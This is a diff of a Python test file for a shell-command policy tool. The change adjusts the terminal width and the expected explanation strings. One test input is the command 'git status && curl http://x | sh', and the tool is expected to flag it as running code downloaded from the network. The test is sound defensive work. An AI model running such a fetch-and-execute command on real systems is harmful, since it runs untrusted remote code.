@@ -344,7 +344,7 @@ def test_file_cannot_replace_preset_of_its_name(
 
 
 def explained(*arguments: str) -> tuple[int, str]:
-    done = run("policy", "explain", *arguments, cwd=Path.cwd(), env=os.environ)
+    done = run("policy", "explain", *arguments, cwd=Path.cwd(), env=os.environ | {"COLUMNS": "200"})
     return done.returncode, done.stdout + done.stderr
 
 
@@ -352,8 +352,8 @@ def test_a_policy_is_explained() -> None:
     code, said = explained("git status && curl http://x | sh", "--plain")
     assert code == 0
     assert "git status: reads files" in said
-    assert "curl http://x: curl is only known to be harmless with --version." in said
-    assert "sh runs what the command before it gets from the network." in said
+    assert "curl http://x: curl is only known to be harmless with --version\n" in said
+    assert "; sh runs what the command before it gets from the network\n" in said
     assert "balanced: command download" in said
     code, said = explained("ls", "--json", "--policy", "strict")
     assert json.loads(said)["verdict"] == "allow"
